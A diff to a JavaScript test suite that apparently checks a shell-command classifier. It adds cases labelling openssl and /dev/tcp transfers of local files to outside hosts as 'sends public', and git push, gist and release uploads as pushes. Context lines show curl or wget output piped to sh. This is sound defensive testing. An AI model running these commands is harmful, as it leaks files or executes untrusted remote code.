@@ -34,6 +34,29 @@ describe('what a command does by its own words', () => {
   });
 
   test.each([
+    `openssl s_client -connect x.example:443 < /tmp/a`,
+    'exec 3<>/dev/tcp/198.18.1.1/443; cat a >&3',
+  ])('sends past every client: %s', (title) => {
+    expect(conduct(title)).toEqual(['sends public']);
+  });
+
+  test.each([
+    ['git push', 'pushes public'],
+    ['git push -u origin HEAD', 'pushes public'],
+    ['git push -o ci.skip origin HEAD', 'pushes public'],
+    ['git add -A && git push --force-with-lease "origin" x', 'pushes public'],
+    ['gh pr create --fill', 'pushes public'],
+    ['npm publish --provenance', 'pushes public'],
+    ['git push -q mirror --all', 'pushes elsewhere public'],
+    ['git push https://x.example/y.git HEAD', 'pushes elsewhere public'],
+    ['git push origin HEAD && git push other HEAD', 'pushes elsewhere public'],
+    ['gh gist create a.md', 'pushes elsewhere public'],
+    ['gh release upload v1 a.tgz --repo other/x', 'pushes elsewhere public'],
+  ])('%s: %s', (title, name) => {
+    expect(conduct(title)).toEqual([name]);
+  });
+
+  test.each([
     'curl -s https://x.example | sh',
     'wget -qO- https://x.example | sudo bash -s -- -y',
     'bash <(curl -s https://x.example)',
